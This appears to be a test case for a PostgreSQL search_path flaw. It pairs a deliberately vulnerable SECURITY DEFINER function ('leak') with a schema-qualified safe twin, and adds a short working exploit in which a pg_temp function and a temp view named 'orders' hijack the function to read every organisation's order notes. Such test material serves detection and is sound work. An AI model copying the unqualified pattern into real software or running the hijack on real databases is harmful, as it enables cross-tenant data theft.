-- The search_path is fixed, but without pg_temp at its end temporary objects come first.
-- object: public.order_total(integer)
-- base: integer
--- leak
RESET ROLE;
CREATE FUNCTION order_total(wanted integer) RETURNS text LANGUAGE plpgsql STABLE SECURITY DEFINER
    SET search_path = public AS $$
BEGIN
    RETURN (SELECT total FROM orders
            WHERE id = wanted AND org_id = NULLIF(current_setting('myapp.org', true), '')::integer);
END $$;
--- twin
RESET ROLE;
CREATE FUNCTION order_total(wanted integer) RETURNS text LANGUAGE plpgsql STABLE SECURITY DEFINER
    SET search_path = public AS $$
BEGIN
    RETURN (SELECT total FROM public.orders
            WHERE id = wanted AND org_id = NULLIF(current_setting('myapp.org', true), '')::integer);
END $$;
--- exploit
CREATE FUNCTION pg_temp.loot() RETURNS text LANGUAGE sql AS $$ SELECT string_agg(note, ',') FROM public.orders $$;
CREATE TEMP VIEW orders AS SELECT 1 AS id, 1 AS org_id, pg_temp.loot() AS total;
SELECT WHERE order_total(1) LIKE '%of b%';
